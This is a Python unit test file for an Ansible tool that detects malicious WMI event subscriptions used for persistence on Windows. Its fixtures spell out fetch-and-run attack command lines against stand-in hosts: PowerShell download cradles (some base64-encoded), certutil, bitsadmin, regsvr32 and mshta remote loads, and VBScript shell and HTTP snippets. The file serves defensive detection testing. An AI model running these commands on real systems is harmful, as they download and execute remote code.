# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
from __future__ import annotations

import base64

import pytest
from ansible_collections.winsec.wmi.plugins.plugin_utils._control import HostContext
from ansible_collections.winsec.wmi.plugins.plugin_utils._os_profile import os_profile
from ansible_collections.winsec.wmi.plugins.plugin_utils._subscriptions._event_subscriptions import (
    EventConsumer,
    EventSubscriptions,
    builtins_for,
    classify,
    consumer_indicators,
    decode_encoded_command,
    known_subscriptions,
    parse_inventory,
)
from ansible_collections.winsec.wmi.plugins.plugin_utils._wmi_errors import WmiActionError, WmiOperationError
from ansible_collections.winsec.wmi.tests.unit.plugins.fakes import facts

SUB = "root\\subscription"
FACTS_2022 = facts()
FACTS_2003 = facts(os_caption="Microsoft Windows Server 2003", os_version="5.2.3790", os_build=3790)


def host(facts=None):
    facts = facts or FACTS_2022
    return HostContext(facts, os_profile(facts), check_mode=True, diff_mode=False, enforce=False)


def scm(consumer_class="NTEventLogEventConsumer", query="select * from MSFT_SCMEventLogEvent", **consumer_fields):
    return {
        "filters": [
            {"namespace": SUB, "name": "SCM Event Log Filter", "query": query, "event_namespace": "root\\cimv2"}
        ],
        "consumers": [{"namespace": SUB, "name": "SCM Event Log Consumer", "class": consumer_class, **consumer_fields}],
        "bindings": [
            {
                "namespace": SUB,
                "filter": "SCM Event Log Filter",
                "consumer": "SCM Event Log Consumer",
                "consumer_class": consumer_class,
            }
        ],
    }


def encoded(text):
    return base64.b64encode(text.encode("utf-16-le")).decode()


def run(result, facts=None, **options):
    control = EventSubscriptions.from_options(options)
    return control.decide(host(facts), [{"op": "event_subscriptions", "failed": False, **result}])


def test_builtin_scm_consumer_is_compliant():
    decision = run(scm())
    assert decision.status == "compliant"
    (subscription,) = decision.result["subscriptions"]
    assert subscription["classification"] == "builtin"
    assert decision.findings == []


def test_malicious_consumer_named_like_the_builtin_is_not_builtin():
    # Same names as the built-in pair, but a CommandLineEventConsumer: the binding's reference carries the class.
    decision = run(scm("CommandLineEventConsumer", command_line_template="cmd /c calc.exe"))
    assert decision.status == "drift"
    (subscription,) = decision.result["subscriptions"]
    assert subscription["classification"] == "suspicious"
    ids = {reason["id"] for reason in subscription["reasons"]}
    assert "code_running_consumer" in ids
    assert decision.findings[0]["id"] == "suspicious_event_consumer"


def test_builtin_pair_with_an_impostor_binding_joins_by_class():
    # The real SCM consumer exists, and a CommandLine consumer with the same name is bound to the SCM filter.
    result = scm()
    result["consumers"].append(
        {
            "namespace": SUB,
            "name": "SCM Event Log Consumer",
            "class": "CommandLineEventConsumer",
            "command_line_template": "powershell -enc " + encoded("IEX (iwr http://x/a)"),
        }
    )
    result["bindings"].append(
        {
            "namespace": SUB,
            "filter": "SCM Event Log Filter",
            "consumer": "SCM Event Log Consumer",
            "consumer_class": "CommandLineEventConsumer",
        }
    )
    decision = run(result)
    by_class = {s["consumer"]["class"]: s["classification"] for s in decision.result["subscriptions"]}
    assert by_class == {"NTEventLogEventConsumer": "builtin", "CommandLineEventConsumer": "suspicious"}
    assert decision.status == "drift"


def test_builtin_with_a_changed_query_is_no_longer_builtin():
    decision = run(scm(query="SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'"))
    (subscription,) = decision.result["subscriptions"]
    assert subscription["classification"] == "unrecognised"
    assert decision.status == "drift"


def test_builtins_depend_on_the_os():
    assert [k.consumer for k in builtins_for(os_profile(FACTS_2022), None)] == ["SCM Event Log Consumer"]
    assert [k.consumer for k in builtins_for(os_profile(FACTS_2003), None)] == ["BVTConsumer"]
    bvt = {
        "filters": [{"namespace": SUB, "name": "BVTFilter", "query": "SELECT * FROM x"}],
        "consumers": [
            {
                "namespace": SUB,
                "name": "BVTConsumer",
                "class": "CommandLineEventConsumer",
                "command_line_template": "cscript KernCap.vbs",
            }
        ],
        "bindings": [
            {
                "namespace": SUB,
                "filter": "BVTFilter",
                "consumer": "BVTConsumer",
                "consumer_class": "CommandLineEventConsumer",
            }
        ],
    }
    assert run(bvt, FACTS_2003).status == "compliant"
    # BVT never shipped with Server 2022: there it is a command-line consumer running cscript.
    assert run(bvt, FACTS_2022).status == "drift"


def test_builtin_list_is_overridable():
    decision = run(scm(), builtin=[])
    assert decision.status == "drift"
    assert decision.result["subscriptions"][0]["classification"] == "unrecognised"


def test_allow_list_needs_the_class_and_matches_by_it():
    with pytest.raises(WmiActionError, match="consumer_class"):
        known_subscriptions([{"consumer": "Backup"}], "allowed")
    result = {
        "filters": [{"namespace": SUB, "name": "Nightly", "query": "SELECT * FROM __TimerEvent"}],
        "consumers": [
            {
                "namespace": SUB,
                "name": "Backup",
                "class": "CommandLineEventConsumer",
                "command_line_template": "C:\\Program Files\\Backup\\run.exe",
            }
        ],
        "bindings": [
            {"namespace": SUB, "filter": "Nightly", "consumer": "Backup", "consumer_class": "CommandLineEventConsumer"}
        ],
    }
    allowed = run(result, allowed=[{"consumer": "backup", "consumer_class": "commandlineeventconsumer"}])
    assert allowed.status == "compliant"
    assert allowed.result["subscriptions"][0]["classification"] == "allowed"
    other_class = run(result, allowed=[{"consumer": "Backup", "consumer_class": "LogFileEventConsumer"}])
    assert other_class.status == "drift"


@pytest.mark.parametrize(
    ("command_line", "indicator"),
    [
        ("powershell.exe -NoP -W Hidden -Enc " + encoded("Write-Host hi"), "encoded_powershell"),
        ("powershell -e " + encoded("whoami"), "encoded_powershell"),
        ("powershell -EncodedCommand " + encoded("whoami"), "encoded_powershell"),
        ('mshta.exe vbscript:Execute("x")', "lolbin"),
        ("C:\\Windows\\System32\\rundll32.exe javascript:foo", "lolbin"),
        ("regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll", "network_path"),
        ("certutil -urlcache -f http://x/a a.exe", "downloads"),
        ("bitsadmin /transfer j http://x/a C:\\a.exe", "lolbin"),
        ("\\\\fileserver\\share\\payload.exe", "network_path"),
        ("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x')\"", "downloads"),
        ("C:\\Users\\Public\\run.exe", "user_writable_path"),
    ],
)
def test_command_line_indicators(command_line, indicator):
    consumer = EventConsumer(SUB, "x", "CommandLineEventConsumer", command_line_template=command_line)
    assert indicator in {found.id for found in consumer_indicators(consumer)}


def test_encoded_command_is_decoded_and_scanned():
    payload = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
    consumer = EventConsumer(
        SUB, "x", "CommandLineEventConsumer", command_line_template=f"powershell -enc {encoded(payload)}"
    )
    found = {indicator.id: indicator for indicator in consumer_indicators(consumer)}
    assert "198.51.100.7" in (found["encoded_powershell"].evidence or "")
    assert {"downloads", "network_path"} <= set(found)
    assert decode_encoded_command("not base64!") is None


@pytest.mark.parametrize(
    ("script", "indicator"),
    [
        ('Set sh = CreateObject("WScript.Shell")\nsh.Run "calc.exe", 0', "executes"),
        ('Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "http://x/a"', "downloads"),
        ('var s = new ActiveXObject("Shell.Application"); s.ShellExecute("cmd")', "executes"),
    ],
)
def test_script_indicators(script, indicator):
    consumer = EventConsumer(SUB, "x", "ActiveScriptEventConsumer", script_text=script, scripting_engine="VBScript")
    ids = [found.id for found in consumer_indicators(consumer)]
    assert ids[0] == "code_running_consumer"
    assert indicator in ids


def test_log_file_consumer_without_indicators_is_unrecognised_not_suspicious():
    consumer = EventConsumer(SUB, "disklog", "LogFileEventConsumer", properties={"Filename": "C:\\logs\\disk.log"})
    assert consumer_indicators(consumer) == []
    custom = EventConsumer(SUB, "agent", "ContosoAgentConsumer")
    assert [i.id for i in consumer_indicators(custom)] == ["custom_consumer_class"]


def test_orphans():
    result = {
        "filters": [{"namespace": SUB, "name": "Lonely", "query": "SELECT * FROM __TimerEvent"}],
        "consumers": [
            {
                "namespace": SUB,
                "name": "Staged",
                "class": "CommandLineEventConsumer",
                "command_line_template": "cmd /c whoami",
            }
        ],
        "bindings": [
            {"namespace": SUB, "filter": "Gone", "consumer": "AlsoGone", "consumer_class": "CommandLineEventConsumer"}
        ],
    }
    classified = classify(parse_inventory([result]), builtins=[])
    assert [f.name for f in classified.orphan_filters] == ["Lonely"]
    assert [b.consumer for b in classified.orphan_bindings] == ["AlsoGone"]
    assert [c.name for c in classified.unbound_consumers] == ["Staged"]
    decision = run(result)
    ids = sorted(f["id"] for f in decision.findings)
    assert ids == ["orphan_binding", "orphan_filter", "suspicious_event_consumer"]
    staged = next(f for f in decision.findings if f["id"] == "suspicious_event_consumer")
    assert staged["state"] == "inactive"


def test_binding_without_class_joins_by_unique_name_and_says_so():
    result = scm()
    del result["bindings"][0]["consumer_class"]
    decision = run(result)
    (subscription,) = decision.result["subscriptions"]
    assert subscription["classification"] == "builtin"
    assert "joined by name only" in subscription["problems"][0]


def test_failed_read_raises():
    control = EventSubscriptions()
    failed = {"op": "event_subscriptions", "failed": True, "error": {"code": "WMI", "hresult": 0x8004100E}}
    with pytest.raises(WmiOperationError):
        control.decide(host(), [failed])


def test_reads_are_one_operation_over_every_namespace_by_default():
    # A subscription can be registered in any namespace: by default all are read, in one operation.
    assert EventSubscriptions().reads() == [{"op": "event_subscriptions", "namespaces": ["root"], "recurse": True}]
    assert EventSubscriptions.from_options({}).reads() == EventSubscriptions().reads()
    assert EventSubscriptions(namespaces=["root\\subscription", "root\\default"], recurse=False).reads() == [
        {"op": "event_subscriptions", "namespaces": ["root\\subscription", "root\\default"]}
    ]


def test_unreadable_namespaces_are_never_compliant():
    denied = {"namespace": "root\\Locked", "error": {"code": "WMI", "hresult": 0x80041003, "message": "denied"}}
    decision = run({**scm(), "namespace_errors": [denied]}, namespaces=["root"], recurse=True)
    assert decision.status == "error" and decision.result["compliant"] is False
    assert decision.result["namespace_errors"][0]["error"]["name"] == "WBEM_E_ACCESS_DENIED"
    assert [f["id"] for f in decision.findings] == ["namespace_unreadable"]
    malicious = scm("CommandLineEventConsumer", command_line_template="cmd /c calc")
    assert run({**malicious, "namespace_errors": [denied]}).status == "drift"


# --- an allow-list entry that does not pin what the consumer runs ------------------------------------------------

CRADLE = "powershell.exe -NoP -W Hidden -Enc " + encoded("IEX (New-Object Net.WebClient).DownloadString('http://x/a')")
SUSPICIOUS_COMMAND_LINES = [
    CRADLE,
    "mshta.exe http://198.51.100.7/a.hta",
    "C:\\Users\\Public\\run.exe",
    "\\\\fileserver\\share\\payload.exe",
]


def one_consumer(consumer_class="CommandLineEventConsumer", **fields):
    return {
        "filters": [{"namespace": SUB, "name": "Nightly", "query": "SELECT * FROM __TimerEvent"}],
        "consumers": [{"namespace": SUB, "name": "Backup", "class": consumer_class, **fields}],
        "bindings": [{"namespace": SUB, "filter": "Nightly", "consumer": "Backup", "consumer_class": consumer_class}],
    }


@pytest.mark.parametrize("command_line", SUSPICIOUS_COMMAND_LINES)
def test_an_allow_list_entry_without_command_line_does_not_admit_a_suspicious_command_line(command_line):
    result = one_consumer(command_line_template=command_line)
    entry = {"consumer": "Backup", "consumer_class": "CommandLineEventConsumer", "description": "nightly backup"}
    decision = run(result, allowed=[entry])
    assert decision.status == "drift"
    (subscription,) = decision.result["subscriptions"]
    assert subscription["classification"] == "suspicious" and subscription["known_as"] is None
    reason = subscription["reasons"][0]
    assert reason["id"] == "allow_list_unpinned" and reason["severity"] == "high"
    assert "nightly backup" in reason["message"] and "command_line" in reason["message"]
    (finding,) = decision.findings
    assert finding["id"] == "suspicious_event_consumer" and "does not pin its command line" in finding["message"]
    # The same entry pinning exactly that command line admits it: someone reviewed what it runs.
    pinned = run(result, allowed=[{**entry, "command_line": "  " + command_line.upper() + " "}])
    assert pinned.status == "compliant"
    assert pinned.result["subscriptions"][0]["classification"] == "allowed"
    # An edited command line no longer matches the pinned entry.
    edited = run(
        one_consumer(command_line_template=command_line + " x"), allowed=[{**entry, "command_line": command_line}]
    )
    assert edited.status == "drift"


def test_an_unpinned_entry_still_admits_a_harmless_command_line():
    result = one_consumer(command_line_template="C:\\Program Files\\Backup\\run.exe --nightly")
    decision = run(result, allowed=[{"consumer": "Backup", "consumer_class": "CommandLineEventConsumer"}])
    assert decision.status == "compliant"


def test_a_pinned_command_line_does_not_pin_the_executable_path():
    result = one_consumer(command_line_template="run.exe --nightly", executable_path="C:\\Users\\Public\\run.exe")
    entry = {"consumer": "Backup", "consumer_class": "CommandLineEventConsumer", "command_line": "run.exe --nightly"}
    decision = run(result, allowed=[entry])
    assert decision.status == "drift"
    reason = decision.result["subscriptions"][0]["reasons"][0]
    assert reason["id"] == "allow_list_unpinned" and "executable path" in reason["message"]


@pytest.mark.parametrize(
    "script",
    [
        'Set sh = CreateObject("WScript.Shell")\nsh.Run "C:\\ProgramData\\svc\\upd.exe", 0',
        'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "http://x/a"',
    ],
)
def test_an_allow_listed_script_consumer_whose_script_is_suspicious_stays_suspicious(script):
    result = one_consumer("ActiveScriptEventConsumer", script_text=script, scripting_engine="VBScript")
    entry = {"consumer": "Backup", "consumer_class": "ActiveScriptEventConsumer"}
    decision = run(result, allowed=[entry])
    assert decision.status == "drift"
    reason = decision.result["subscriptions"][0]["reasons"][0]
    assert reason["id"] == "allow_list_unpinned" and "script" in reason["message"]
    harmless = run(
        one_consumer("ActiveScriptEventConsumer", script_text="x = 1", scripting_engine="VBScript"), allowed=[entry]
    )
    assert harmless.status == "compliant"


def test_the_builtin_list_obeys_the_same_rule():
    # The built-in BVT consumer pins its command line; an executable path an attacker points at a share does not
    # make it built-in.
    bvt = {
        "filters": [{"namespace": SUB, "name": "BVTFilter", "query": "SELECT * FROM __InstanceModificationEvent"}],
        "consumers": [
            {
                "namespace": SUB,
                "name": "BVTConsumer",
                "class": "CommandLineEventConsumer",
                "command_line_template": "cscript KernCap.vbs",
                "executable_path": "\\\\198.51.100.7\\share\\kernrate.exe",
            }
        ],
        "bindings": [
            {
                "namespace": SUB,
                "filter": "BVTFilter",
                "consumer": "BVTConsumer",
                "consumer_class": "CommandLineEventConsumer",
            }
        ],
    }
    decision = run(bvt, facts=FACTS_2003)
    assert decision.result["subscriptions"][0]["classification"] == "suspicious"
    assert decision.result["subscriptions"][0]["reasons"][0]["message"].startswith("The built-in entry")
    bvt["consumers"][0]["executable_path"] = "C:\\tools\\kernrate\\kernrate.exe"
    assert run(bvt, facts=FACTS_2003).result["subscriptions"][0]["classification"] == "builtin"


# --- one builder for the three parts: a part is built from, and shown as, the dictionary wmi_state returns --------


def test_each_part_is_built_from_and_shown_as_the_hosts_dictionary():
    reply = {
        "filters": [
            {"namespace": SUB, "name": "F", "query": "select * from X", "query_language": None, "creator_sid": 5}
        ],
        "consumers": [
            {"namespace": SUB, "name": "C", "class": "LogFileEventConsumer", "properties": {"Filename": "c:\\l.txt"}}
        ],
        "bindings": [{"namespace": SUB, "filter": "F", "consumer": "C"}],
    }
    inventory = parse_inventory([reply])
    (event_filter,), (consumer,), (binding,) = inventory.filters, inventory.consumers, inventory.bindings
    assert event_filter.creator_sid == "5" and event_filter.event_namespace is None  # text, or None where absent
    assert consumer.cls == "LogFileEventConsumer" and consumer.properties == {"Filename": "c:\\l.txt"}
    assert binding.consumer_class is None
    for part in (event_filter, consumer, binding):
        assert type(part).from_reply(part.to_dict()) == part
    assert set(consumer.to_dict()) >= {"namespace", "name", "class", "properties"}


def test_an_echo_without_a_key_of_the_parts_identity_names_no_part():
    with pytest.raises(KeyError):
        EventConsumer.from_reply({"namespace": SUB, "name": "C"}, strict=True)
    assert EventConsumer.from_reply({"namespace": SUB, "name": "C"}).cls == "None"
